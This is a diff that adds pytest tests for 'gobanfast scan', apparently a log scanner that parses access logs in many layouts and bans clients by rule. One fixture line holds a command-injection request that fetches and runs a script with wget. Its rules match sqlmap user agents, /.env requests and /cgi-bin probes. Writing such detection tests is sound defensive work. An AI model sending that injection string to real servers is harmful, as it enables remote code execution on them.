@@ -1,0 +1,304 @@
+"""Lines of access logs as servers and shippers write them: what is read of each, through `gobanfast scan`."""
+
+from __future__ import annotations
+
+import bz2
+import json
+import lzma
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+pytest.importorskip("typer", reason="the command line needs the extra cli")
+
+from typer.testing import CliRunner, Result
+
+from gobanfast.batch import requests
+from gobanfast.batch.layouts import client
+from gobanfast.cli.app import app
+
+NET = "{id: bad, when: {prefix: 203.0.113.0/24}, action: ban}"
+TOOL = "{id: tool, when: {header: {user-agent: {contains: sqlmap}}}, action: ban}"
+ENV = "{id: env, when: {path: /.env}, action: ban}"
+CGI = '{id: cgi, when: {path: "/cgi-bin/**"}, action: ban}'
+AT = "[27/Jan/2024:10:03:34 +0000]"
+UTF8_BOM = "\ufeff"
+
+
+def scan(tmp_path: Path, log: bytes | str, rule: str, *options: str, status: int = 0) -> Result:
+    """What `scan` of one log under one rule leaves behind."""
+    (tmp_path / "rules.yaml").write_text(f"rules:\n- {rule}\n")
+    (tmp_path / "a.log").write_bytes(log if isinstance(log, bytes) else log.encode())
+    command = ["scan", str(tmp_path / "a.log"), "-r", str(tmp_path / "rules.yaml"), *options]
+    result = CliRunner().invoke(app, command, env={"COLUMNS": "200", "TERM": "dumb"})
+    assert status == result.exit_code, result.output
+    return result
+
+
+def summary(tmp_path: Path, log: bytes | str, rule: str, *options: str) -> dict[str, Any]:
+    found = json.loads(scan(tmp_path, log, rule, *options, "--json").stdout)
+    assert isinstance(found, dict)
+    return found
+
+
+def combined(target: str, *, client: str = "203.0.113.9", user: str = "-", agent: str = '"-" "M"') -> str:
+    return f'{client} - {user} {AT} "GET {target} HTTP/1.1" 200 5 {agent}\n'
+
+
+# ---- layouts
+
+
+@pytest.mark.parametrize(
+    ("log", "options"),
+    [
+        (combined("/", user="jane doe", agent='"-" "M/5.0 (X11; Linux)"') + 3 * combined("/"), []),
+        (combined("/", user="a, b; c") + 3 * combined("/"), []),
+        (combined("/?a=1,2;3") * 4, []),
+        ("# nginx, rotated; 27 Jan\n" + 4 * combined("/"), []),
+        ("\n\0\0" + "garbage,with;commas\n" + 4 * combined("/"), []),
+        ("host.example,x\n" + 4 * combined("/", client="203.0.113.9"), ["-f", "combined"]),
+        (4 * ("www.example.com:443 " + combined("/")), []),  # Apache's vhost_combined
+        (4 * ("www.example.com " + combined("/")), ["--field", "2"]),
+        (4 * ("Dec  9 19:00:00 web nginx: " + combined("/")), []),
+        (4 * ("<190>Dec 19 19:00:00 web nginx: " + combined("/")), []),
+        (4 * 'INFO:     203.0.113.9:54321 - "GET / HTTP/1.1" 200 OK\n', []),  # uvicorn
+        (4 * combined("/", client="203.0.113.9:54321"), []),
+        (4 * combined("/", client="[2001:db8::1]:443") + 4 * combined("/", client="203.0.113.9"), []),
+        ("ip,status\n" + 4 * "203.0.113.9,200\n", []),
+        ("who;code\n" + 4 * "203.0.113.9;200\n", []),
+        (4 * "203.0.113.9\n", []),
+    ],
+)
+def test_most_lines_tell_the_layout(tmp_path: Path, log: str, options: list[str]) -> None:
+    """One odd line, wherever it is, a head in front of each line or a port changes nothing: four clients are banned."""
+    assert 4 == summary(tmp_path, log, NET, *options)["actions"]["ban"]
+
+
+def test_fields_are_separated_by_runs_of_blanks(tmp_path: Path) -> None:
+    """As in awk: RFC 3164 pads the day of the month with a blank, and both lines have the client in field 6."""
+    log = "Dec  9 19:00:00 web nginx: " + combined("/") + "Dec 10 19:00:00 web nginx: " + combined("/")
+
+    for options in (["-f", "combined", "--field", "6"], []):
+        found = summary(tmp_path, log, NET, *options)
+        assert ({"ban": 2}, 0) == (found["actions"], found["bad"])
+        assert [{"format": "combined", "client": "field 6"}] == [
+            {key: row[key] for key in ("format", "client")} for row in found["logs"]
+        ]
+
+
+@pytest.mark.parametrize(
+    ("log", "lines"),
+    [
+        ('{"remote_addr":"203.0.113.9"}\r\n{"remote_addr":"203.0.113.9"}\r\n', 2),
+        ("ip,status\n203.0.113.9,200\n", 1),
+        ("ip,status\r\n203.0.113.9,200\r\n\ufeffip,status\r\n203.0.113.9,200\r\n", 2),  # joined files
+        (2 * combined("/"), 2),
+        ("203.0.113.9\n203.0.113.9\n", 2),
+    ],
+)
+def test_a_byte_order_mark_is_no_text(tmp_path: Path, log: str, lines: int) -> None:
+    """Logs of any layout are read with a UTF-8 BOM as without."""
+    for text in (UTF8_BOM + log, log):
+        found = summary(tmp_path, text, NET)
+        assert (lines, {"ban": lines}, 0) == (found["lines"], found["actions"], found["bad"])
+
+
+@pytest.mark.parametrize(
+    ("log", "words"),
+    [
+        (combined("/").encode("utf-16"), "it is UTF-16"),
+        (combined("/").encode("utf-16-le"), "it is UTF-16"),
+        (combined("/").encode("utf-16-be"), "it is UTF-16"),
+        (bz2.compress(combined("/").encode()), "packed by bzip2"),
+        (lzma.compress(combined("/").encode()), "packed by xz"),
+        (b"name,code\nx,1\n", "--format"),
+        (b"from,to\n192.0.2.1,203.0.113.9\n", "columns 1 and 2 hold addresses"),
+    ],
+)
+def test_what_cannot_be_read_says_what_to_do(tmp_path: Path, log: bytes, words: str) -> None:
+    """Status 2 and one message that names the log and the way out."""
+    result = scan(tmp_path, log, NET, status=2)
+
+    assert words in result.stderr
+    assert "a.log: " in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("text", "address"),
+    [
+        ("203.0.113.9:443", "203.0.113.9"),
+        ("[2001:db8::1]:443", "2001:db8::1"),
+        ("[2001:db8::1]", "2001:db8::1"),
+        ("2001:db8::1", "2001:db8::1"),
+        ("::ffff:203.0.113.9", "::ffff:203.0.113.9"),
+        ("198.51.100.1, 203.0.113.9", "203.0.113.9"),
+        ('"198.51.100.1,203.0.113.9:80"', "203.0.113.9"),
+        ("unknown, 203.0.113.9", "203.0.113.9"),
+        ("203.0.113.9, unknown", "unknown"),
+        ("web-1:443", "web-1:443"),
+        ("", ""),
+    ],
+)
+def test_the_client_in_a_field(text: str, address: str) -> None:
+    """A port goes; of a list the last counts; what is no address stays, to be shown as a fault."""
+    assert address == client(text)
+
+
+def test_trusted_proxies_of_a_list_are_passed_over(tmp_path: Path) -> None:
+    """From the right, the first address that `trust:` does not cover is the client; never one further left."""
+    rule = NET + "\ntrust: [10.0.0.0/8]"
+    for listed, action in (
+        ("203.0.113.9, 10.0.0.1, 10.0.0.2", "ban"),
+        ("203.0.113.9, 192.0.2.1, 10.0.0.2", "allow"),
+        ("203.0.113.9, 192.0.2.1", "allow"),
+        ("192.0.2.1,203.0.113.9", "ban"),
+        ("10.0.0.7, 10.0.0.1", "allow"),
+    ):
+        assert {action: 1} == summary(tmp_path, combined("/", client=listed), rule)["actions"], listed
+        line = json.dumps({"remote_addr": listed})
+        assert {action: 1} == summary(tmp_path, line, rule)["actions"], listed
+
+
+# ---- requests
+
+
+@pytest.mark.parametrize(
+    "log",
+    [
+        combined("/cgi-bin/x?cmd=wget http://h/ -O y; sh y"),
+        combined("/cgi-bin/x y z"),
+        combined(r"/cgi-bin/x?a=\"b\" c"),
+        combined(r"/cgi-bin/\xd0\xb0?q=\x22"),
+        combined('/cgi-bin/x?a="b" HTTP/1.1" 200'),  # a server that escapes nothing
+        combined("http://h.example/cgi-bin/x"),
+        json.dumps({"ip": "203.0.113.9", "request": 'GET /cgi-bin/x?a="b c HTTP/1.1'}),
+        json.dumps({"ip": "203.0.113.9", "method": "GET", "url": "https://www.example.com:8443/cgi-bin/x?y=1"}),
+        '{"remote_addr":"203.0.113.9","request":"GET /cgi-bin/\\x22 HTTP/1.1"}',
+        json.dumps({"ClientIP": "203.0.113.9", "httpRequest": {"requestUrl": "http://h.example/cgi-bin/x"}}),
+        "ip,request\n203.0.113.9,GET /cgi-bin/x y HTTP/1.1\n",
+        "ip;method;url\n203.0.113.9;GET;http://h.example/cgi-bin/\n",
+        'INFO:     203.0.113.9:54321 - "GET /cgi-bin/x HTTP/1.1" 404 Not Found\n',
+    ],
+)
+def test_the_target_of_a_request(tmp_path: Path, log: str) -> None:
+    """It goes from the first blank to the last before HTTP/, escapes undone; scheme and host are no part of a path."""
+    found = summary(tmp_path, log, CGI)
+
+    assert {"ban": 1} == found["actions"]
+    assert [] == found["unjudged"]
+
+
+@pytest.mark.parametrize(
+    ("text", "meant"),
+    [
+        (r"\"a\\b\"", '"a\\b"'),
+        (r"\x41\x22\xff\t\n", 'A"\xff\t\n'),
+        (r"/..\..\x", "/..\\..\\x"),  # of a server that escapes nothing
+        ("plain", "plain"),
+    ],
+)
+def test_escapes(text: str, meant: str) -> None:
+    """What Apache and nginx escape is read as it was sent."""
+    assert meant == requests.unescaped(text)
+
+
+@pytest.mark.parametrize(
+    ("log", "action", "unjudged"),
+    [
+        (f'203.0.113.9 - - {AT} "GET / HTTP/1.1" 200 5\n', "allow", ["tool"]),
+        (combined("/", agent='"-" "-"'), "allow", []),
+        (combined("/", agent='"-" "sqlmap"'), "ban", []),
+        ('{"client_ip":"203.0.113.9","request":{"uri":"/x","headers":{"user-agent":"sqlmap"}}}', "ban", []),
+        ('{"client_ip":"203.0.113.9","request":{"uri":"/x","headers":{"USER-AGENT":["sqlmap"]}}}', "ban", []),
+        ('{"client_ip":"203.0.113.9","req":{"url":"/x","headers":{"User-Agent":"sqlmap"}}}', "ban", []),
+        ('{"client_ip":"203.0.113.9","request":{"uri":"/x","headers":{"Host":["a"]}}}', "allow", []),
+        ('{"client_ip":"203.0.113.9","request_User-Agent":"sqlmap"}', "ban", []),
+        ('{"client_ip":"203.0.113.9","user_agent":{"original":"sqlmap"}}', "ban", []),
+        ('{"client_ip":"203.0.113.9","user_agent":null}', "allow", []),
+        ('{"client_ip":"203.0.113.9","path":"/"}', "allow", ["tool"]),
+        ("ip,path\n203.0.113.9,/\n", "allow", ["tool"]),
+        ("ip,User-Agent\n203.0.113.9,sqlmap\n", "ban", []),
+        ("ip,user_agent\n203.0.113.9,-\n", "allow", []),
+        ("203.0.113.9\n", "allow", ["tool"]),
+    ],
+)
+def test_a_rule_is_judged_where_the_log_has_what_it_asks(
+    tmp_path: Path, log: str, action: str, unjudged: list[str]
+) -> None:
+    """A layout without user agents leaves the rule unjudged; "-" is a header that was absent; names have no case."""
+    found = summary(tmp_path, log, TOOL)
+
+    assert ({action: 1}, unjudged) == (found["actions"], found["unjudged"])
+
+
+def test_a_rule_is_judged_in_every_log_or_said_not_to_be(tmp_path: Path) -> None:
+    """Of two logs one has no user agents: the rule is named; within one log the lines are counted."""
+    other = tmp_path / "common.log"
+    other.write_text(f'203.0.113.9 - - {AT} "GET / HTTP/1.1" 200 5\n')
+    found = summary(tmp_path, 3 * combined("/"), TOOL, str(other))
+
+    assert (["tool"], {"tool": 1}) == (found["unjudged"], found["unjudged_lines"])
+
+    found = summary(tmp_path, 3 * combined("/") + other.read_text(), TOOL)
+    assert ([], {"tool": 1}) == (found["unjudged"], found["unjudged_lines"])
+
+
+def test_any_header_of_a_log_that_keeps_all(tmp_path: Path) -> None:
+    """Rules on any header are judged where an object holds all of them; an absent one is absent."""
+    rule = "{id: bare, when: {header: {accept: absent}}, action: ban}"
+    for headers, action in (({"accept": "*/*"}, "allow"), ({"host": "a"}, "ban")):
+        line = json.dumps({"ip": "203.0.113.9", "request": {"headers": headers}})
+        found = summary(tmp_path, line, rule)
+        assert ({action: 1}, []) == (found["actions"], found["unjudged"])
+
+
+@pytest.mark.parametrize(
+    ("text", "seconds"),
+    [
+        ("27/Jan/2024:10:03:34 +0000", 1706349814.0),
+        ("27/Jan/2024:12:03:34 +0200", 1706349814.0),
+        ("2024-01-27T10:03:34Z", 1706349814.0),
+        ("2024-01-27T11:03:34.5+01:00", 1706349814.5),
+        ("2024-01-27 10:03:34", 1706349814.0),
+        ("2024-01-27T10:03:34.123456789Z", 1706349814.123456),
+        ("1706349814.25", 1706349814.25),
+        ("1706349814000", 1706349814.0),
+        ("1706349814000000", 1706349814.0),
+        ("1706349814000000000", 1706349814.0),
+        ("0.123", None),
+        ("31/Foo/2024:10:03:34 +0000", None),
+        ("-", None),
+        ("nan", None),
+        ("", None),
+    ],
+)
+def test_times(text: str, seconds: float | None) -> None:
+    """Times as logs write them, in Unix seconds; anything else is none."""
+    found = requests.seconds_of(text)
+
+    assert seconds == (None if found is None else pytest.approx(found))
+
+
+# ---- what is shown
+
+
+def test_clients_are_counted_for_each_action(tmp_path: Path) -> None:
+    """One client that met two actions has a row for each, with the lines of that action only."""
+    log = "".join(combined(path) for path in ("/", "/", "/", "/.env", "/.env"))
+
+    assert [("allow", None, 3), ("ban", "env", 2)] == [
+        (row["action"], row["rule"], row["lines"]) for row in summary(tmp_path, log, ENV)["clients"]
+    ]
+
+
+def test_a_reason_stands_where_it_was_given(tmp_path: Path) -> None:
+    """Lines without a rule: the reason of those that could not be read is not that of the others."""
+    log = combined("/a") * 2 + combined("a:443")
+    shown = [line.split() for line in scan(tmp_path, log, ENV).stdout.splitlines() if "no rule matched" in line]
+    rows = {row["action"]: row["reason"] for row in summary(tmp_path, log, ENV)["rules"]}
+
+    assert [["allow", "2", "66.7%"], ["challenge", "1", "33.3%", "malformed-path"]] == [
+        row[row.index(action) :] for row, action in zip(shown, ("allow", "challenge"), strict=True)
+    ]
+    assert {"allow": None, "challenge": "malformed-path"} == rows
